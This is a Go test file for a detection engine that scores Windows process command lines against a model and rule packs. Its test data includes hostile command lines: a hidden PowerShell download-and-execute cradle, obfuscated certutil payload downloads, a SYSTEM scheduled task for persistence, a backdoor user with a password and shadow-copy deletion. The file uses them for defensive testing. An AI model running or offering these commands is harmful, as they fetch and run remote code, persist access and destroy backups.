package score

import (
	"encoding/json"
	"errors"
	"math"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"scorecmdline/lookups"
	"scorecmdline/src/config"
	"scorecmdline/src/event"
	"scorecmdline/src/internal/race"
	"scorecmdline/src/model"
)

func engine(t testing.TB, opts Options) *Engine {
	t.Helper()
	e, err := New(lookups.FS, opts)
	if err != nil {
		t.Fatal(err)
	}
	return e
}

// lineEvent is an event with a command line and a parent (name or path).
func lineEvent(cmdline, parent []byte) *event.Event {
	ev := new(event.Event)
	ev.Set(event.Process, cmdline)
	ev.SetNameOrPath(event.ParentProcessName, event.ParentProcessPath, parent)
	ev.Complete()
	return ev
}

func names(e *Engine) string {
	var n []string
	for _, f := range e.Fields() {
		n = append(n, f.Name)
	}
	return strings.Join(n, ",")
}

func TestFields(t *testing.T) {
	rules := "rule_hits,rule_count,rule_level,mitre_technique_id,certutil_abuse,scheduled_task,user_creation,shadow_delete,suspicious_parent"
	tests := []struct {
		mod  func(*Options)
		want string
	}{
		{func(*Options) {}, "score,model_alert," + rules + ",obfuscation,risk_score"},
		{func(o *Options) { o.Explain = true }, "score,model_alert,score_features," + rules + ",obfuscation,risk_score,rule_explain,deobfuscated_cmdline,normalized_cmdline"},
		{func(o *Options) { o.Model = None }, rules + ",obfuscation,risk_score"},
		{func(o *Options) { o.Rules = []string{None} }, "score,model_alert,obfuscation,risk_score"},
		{func(o *Options) { o.Rules = []string{None}; o.Deobfuscate = false }, "score,model_alert,risk_score"},
		{func(o *Options) { o.Rules = []string{None}; o.Prefix = "x_" }, "x_score,x_model_alert,x_obfuscation,x_risk_score"},
		{func(o *Options) { o.Model, o.Rules, o.Deobfuscate, o.Explain = None, []string{None}, false, true }, "risk_score,normalized_cmdline"},
	}
	for _, tt := range tests {
		o := Defaults()
		tt.mod(&o)
		if got := names(engine(t, o)); got != tt.want {
			t.Errorf("%+v: fields\n%s, want\n%s", o, got, tt.want)
		}
	}
}

func TestNewErrors(t *testing.T) {
	tests := []struct {
		mod  func(*Options)
		want string
	}{
		{func(o *Options) { o.Model = "nope" }, `unknown model "nope" (available: cmdline, escu)`},
		{func(o *Options) { o.Rules = []string{"nope"} }, `unknown rule pack "nope" (available: sentinel_cmd)`},
		{func(o *Options) { o.Rules = []string{"sentinel_cmd", "none"} }, "rules=none cannot be combined"},
		{func(o *Options) { o.Rules = nil }, "rules must not be empty"},
		{func(o *Options) { o.Model = "" }, "model must not be empty"},
		{func(o *Options) { o.Rules = []string{"sentinel_cmd", "sentinel_cmd"} }, "sentinel_cmd"},
		{func(o *Options) { o.MinLevel = "severe" }, "Illegal value: min_level=severe"},
	}
	for _, tt := range tests {
		o := Defaults()
		tt.mod(&o)
		_, err := New(lookups.FS, o)
		if err == nil || !strings.Contains(err.Error(), tt.want) {
			t.Errorf("%+v: error %v, want %q", o, err, tt.want)
		}
	}
	o := Defaults()
	o.Model = "nope"
	var oe *OptionError
	if _, err := New(lookups.FS, o); !errors.Is(err, ErrUnknownModel) || errors.Is(err, ErrUnknownPack) || !errors.As(err, &oe) || oe.Option != "model" {
		t.Errorf("unknown model is not ErrUnknownModel from option model: %v", err)
	}
	o = Defaults()
	o.Rules = []string{"nope"}
	if _, err := New(lookups.FS, o); !errors.Is(err, ErrUnknownPack) || !errors.Is(err, ErrUnknown) || !errors.As(err, &oe) || oe.Option != "rules" {
		t.Errorf("unknown pack is not ErrUnknownPack from option rules: %v", err)
	}
}

// mapSink records values by field name.
type mapSink struct {
	e *Engine
	m map[string][]string
}

func (s mapSink) Set(i int, v []byte)    { s.m[s.e.fields[i].Name] = []string{string(v)} }
func (s mapSink) Append(i int, v []byte) { n := s.e.fields[i].Name; s.m[n] = append(s.m[n], string(v)) }

func emit(e *Engine, r *Result) map[string][]string {
	s := mapSink{e, map[string][]string{}}
	r.Emit(s, nil)
	return s.m
}

func TestScore(t *testing.T) {
	o := Defaults()
	o.Model, o.Explain = "escu", true
	e := engine(t, o)
	sc := e.NewScorer()

	long := `powershell.exe -nop -w hidden -c "$m=New-Object System.Threading.Mutex($false,'Global\abc');if($m.WaitOne(0)){$wc=New-Object System.Net.WebClient;$s=$wc.OpenRead('http://10.0.0.5/a.ps1');$sr=New-Object System.IO.StreamReader($s);$c=$sr.ReadToEnd();function Run($x){try{IEX $x}catch{}};Run $c}"`
	r := sc.Score(lineEvent([]byte(long), []byte("explorer.exe")))
	got := emit(e, r)
	if got["score"][0] != "8.458906799068355" || !r.ModelAlert || got["risk_score"][0] != "12" || got["rule_count"][0] != "0" {
		t.Errorf("model alert: %v", got)
	}
	if f := got["score_features"]; len(f) != 12 || !slices.Contains(f, "new-object:3:10.141835083741979") {
		t.Errorf("score_features %q", f)
	}

	// The same line, too short for the ESCU gate, scores the same but does not alert.
	short := "New-Object New-Object New-Object function"
	r = sc.Score(lineEvent([]byte(short), nil))
	if r.ModelAlert || r.Score <= 0.5 || r.Risk != 0 || r.Alert(0.5) {
		t.Errorf("short line: score %v alert %v risk %d", r.Score, r.ModelAlert, r.Risk)
	}

	r = sc.Score(lineEvent([]byte(`cmd.exe /c "c^er^tu^til -urlcache -f http://x/a.exe a.exe"`), []byte(`C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`)))
	got = emit(e, r)
	if strings.Join(got["rule_hits"], ",") != "certutil_urlcache,suspicious_parent" || got["certutil_abuse"][0] != "1" ||
		got["suspicious_parent"][0] != "1" || got["shadow_delete"][0] != "0" || got["rule_count"][0] != "2" || !r.Alert(100) {
		t.Errorf("certutil from Word: %v", got)
	}
	if m := got["mitre_technique_id"]; len(m) == 0 || m[0] != "T1059.003" || len(m) != len(slices.Compact(slices.Sorted(slices.Values(m)))) {
		t.Errorf("mitre_technique_id not distinct or not led by T1059.003: %q", m)
	}
	if n := got["normalized_cmdline"][0]; !strings.Contains(n, "certutil -urlcache") {
		t.Errorf("normalized_cmdline %q", n)
	}

	// Empty command line: nothing is emitted, even with a parent.
	r = sc.Score(lineEvent(nil, []byte("winword.exe")))
	if got := emit(e, r); len(got) != 0 || r.Alert(-100) {
		t.Errorf("empty line emitted %v", got)
	}
}

// The trained model: score is a probability, model_alert its stored
// threshold, risk scaled by confidence, explain its top features.
func TestCmdlineModel(t *testing.T) {
	o := Defaults()
	o.Rules, o.Explain = []string{None}, true
	e := engine(t, o)
	lm := e.model.(linearModel)
	sc := e.NewScorer()
	for _, line := range []string{benchLine, benignLine, "notepad.exe C:\\notes.txt", "whoami"} {
		r := sc.Score(lineEvent([]byte(line), nil))
		got := emit(e, r)
		if r.Score < 0 || r.Score > 1 || r.ModelAlert != (r.Score > lm.m.Threshold) {
			t.Errorf("%.40q: score %v alert %v (threshold %v)", line, r.Score, r.ModelAlert, lm.m.Threshold)
		}
		wantRisk := 0
		if r.ModelAlert {
			wantRisk = confidenceRisk(lm.m.Risk, r.Score, lm.m.Threshold)
		}
		if r.Risk != wantRisk+obfuscationRisk(r.Obfuscation) {
			t.Errorf("%.40q: risk %d, want %d + obfuscation", line, r.Risk, wantRisk)
		}
		if f := got["score_features"]; len(f) == 0 || len(f) > explainTop {
			t.Errorf("%.40q: score_features %q", line, f)
		}
	}
	if r := sc.Score(lineEvent([]byte(benchLine), nil)); !r.ModelAlert {
		t.Errorf("the download-and-persist line does not alert: %v", r.Score)
	}
}

func TestConfidenceRisk(t *testing.T) {
	for _, tt := range []struct {
		p, t float64
		want int
	}{
		{0.5, 0.5, 20}, {1, 0.5, 40}, {0.75, 0.5, 30}, {0.9, 0.9, 20}, {2, 0.5, 40},
	} {
		if got := confidenceRisk(40, tt.p, tt.t); got != tt.want {
			t.Errorf("confidenceRisk(40, %v, %v) = %d, want %d", tt.p, tt.t, got, tt.want)
		}
	}
}

func TestRiskCapped(t *testing.T) {
	e := engine(t, Options{Model: None, Rules: []string{"sentinel_cmd"}})
	line := "vssadmin delete shadows /all & wmic shadowcopy delete & bcdedit /set x & net user a b /add & certutil -urlcache x"
	if r := e.NewScorer().Score(lineEvent([]byte(line), []byte("mshta.exe"))); r.Risk != MaxRisk || len(r.Hits) < 5 {
		t.Errorf("risk %d with %d hits, want the cap %d", r.Risk, len(r.Hits), MaxRisk)
	}
}

func TestAppendJSON(t *testing.T) {
	o := Defaults()
	o.Model = "escu"
	e := engine(t, o)
	r := e.NewScorer().Score(lineEvent([]byte("net user bob pw /add"), []byte("cmd.exe")))
	js := append([]byte{'{'}, r.AppendJSON(nil)...)
	js = append(js, '}')
	var got map[string]any
	if err := json.Unmarshal(js, &got); err != nil {
		t.Fatalf("%s: %v", js, err)
	}
	if got["score"] != -2.3557787942525934 || got["rule_count"] != 1.0 || got["user_creation"] != 1.0 ||
		got["rule_hits"].([]any)[0] != "net_user_add" || len(got) != len(e.Fields()) {
		t.Errorf("JSON %s", js)
	}
	if out := e.NewScorer().Score(lineEvent(nil, nil)).AppendJSON(nil); len(out) != 0 {
		t.Errorf("empty result wrote %s", out)
	}
}

// Options decode from search arguments with the documented names.
func TestOptionsDecode(t *testing.T) {
	o := Defaults()
	err := config.Decode(map[string]string{"field": "CommandLine", "rules": "sentinel_cmd,mine", "explain": "t", "model": "none"}, &o)
	if err != nil || o.Field != "CommandLine" || !slices.Equal(o.Rules, []string{"sentinel_cmd", "mine"}) || !o.Explain || o.Model != None {
		t.Errorf("%+v %v", o, err)
	}
}

func TestCustomPack(t *testing.T) {
	base, _ := lookups.FS.ReadFile("escu.model.toml")
	fsys := fstest.MapFS{
		"escu.model.toml": {Data: base},
		"mine.rules.toml": {Data: []byte("[pack]\ndescription = \"test\"\n\n[[rule]]\nname = \"rundll_js\"\ndescription = \"rundll32 running script\"\nany = [\"rundll32 ... javascript\"]\nflag = \"script_proxy\"\ntechniques = [\"T1218.011\"]\nrisk = 70\n")},
	}
	e, err := New(fsys, Options{Model: "escu", Rules: []string{"mine"}})
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(names(e), "script_proxy") {
		t.Errorf("custom flag missing: %s", names(e))
	}
	r := e.NewScorer().Score(lineEvent([]byte(`rundll32.exe javascript:"\..\mshtml,RunHTMLApplication"`), nil))
	if got := emit(e, r); got["script_proxy"][0] != "1" || got["risk_score"][0] != "70" {
		t.Errorf("custom pack: %v", got)
	}
}

type nopSink struct{}

func (nopSink) Set(int, []byte)    {}
func (nopSink) Append(int, []byte) {}

const benchLine = `C:\Windows\System32\cmd.exe /c "certutil.exe -urlcache -split -f http://198.51.100.7:8080/payload.bin %TEMP%\p.exe && schtasks /create /tn Updater /tr %TEMP%\p.exe /sc onlogon /ru SYSTEM && powershell -nop -w hidden -c New-Object System.Net.WebClient" & net user svc_backup P@ssw0rd1 /add & reg add HKLM\Software\x /v y /d z /f`

// Scoring allocates nothing per row, except what the deobfuscation stage's
// full path allocates on a line it has to rewrite (a few strings: its own
// ceilings are tested in src/deobfuscate).
func TestScoreAllocs(t *testing.T) {
	if race.Enabled {
		t.Skip("skipping: the race detector allocates")
	}
	for _, tt := range []struct {
		line string
		deob bool
		max  float64
	}{
		{benignLine, true, 0},
		{benchLine, false, 0},
		{benchLine, true, 4},
	} {
		o := Defaults()
		o.Deobfuscate = tt.deob
		sc := engine(t, o).NewScorer()
		ev := lineEvent([]byte(tt.line), []byte("winword.exe"))
		var scratch []byte
		sc.Score(ev).Emit(nopSink{}, scratch)
		if n := testing.AllocsPerRun(100, func() { scratch = sc.Score(ev).Emit(nopSink{}, scratch) }); n > tt.max {
			t.Errorf("%.30q deobfuscate=%v: Score+Emit allocates %v times, want at most %v", tt.line, tt.deob, n, tt.max)
		}
	}
}

// benignLine is a typical ~300-character command line that matches no rule.
const benignLine = `"C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --enable-features=NetworkServiceInProcess --field-trial-handle=1712,i,4079264125538390352,1370453961215406541,131072 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=7 --launch-time-ticks=1204556219 --mojo-platform-channel-handle=3204 /prefetch:1`

// BenchmarkScore scores one ~300-character command line with model escu and
// pack sentinel_cmd, and emits the fields (the per-row work of the search
// command apart from CSV): a benign line, and one that hits five rules.
func BenchmarkScore(b *testing.B) {
	for name, line := range map[string]string{"benign": benignLine, "hits": benchLine} {
		b.Run(name, func(b *testing.B) {
			sc := engine(b, Defaults()).NewScorer()
			ev := lineEvent([]byte(line), []byte("explorer.exe"))
			var scratch []byte
			b.SetBytes(int64(len(line)))
			b.ReportAllocs()
			for b.Loop() {
				scratch = sc.Score(ev).Emit(nopSink{}, scratch)
			}
			b.ReportMetric(float64(b.N)/b.Elapsed().Seconds(), "rows/s")
		})
	}
}

// The score text cache must print exactly what model.AppendFloat prints,
// including for values that collide in the cache.
func TestFloatText(t *testing.T) {
	var c floatText
	vals := []float64{-1.2124304031951825, 8.458906799068355, 0, 1e-05, math.Copysign(0, -1), 1.5e16, 123456.125}
	for i := range 5000 {
		vals = append(vals, float64(i)*0.1-250, 1/float64(i+1))
	}
	for round := range 2 {
		for _, v := range vals {
			if got, want := string(c.append(nil, v)), string(model.AppendFloat(nil, v)); got != want {
				t.Fatalf("round %d: %v printed %s, want %s", round, v, got, want)
			}
		}
	}
}
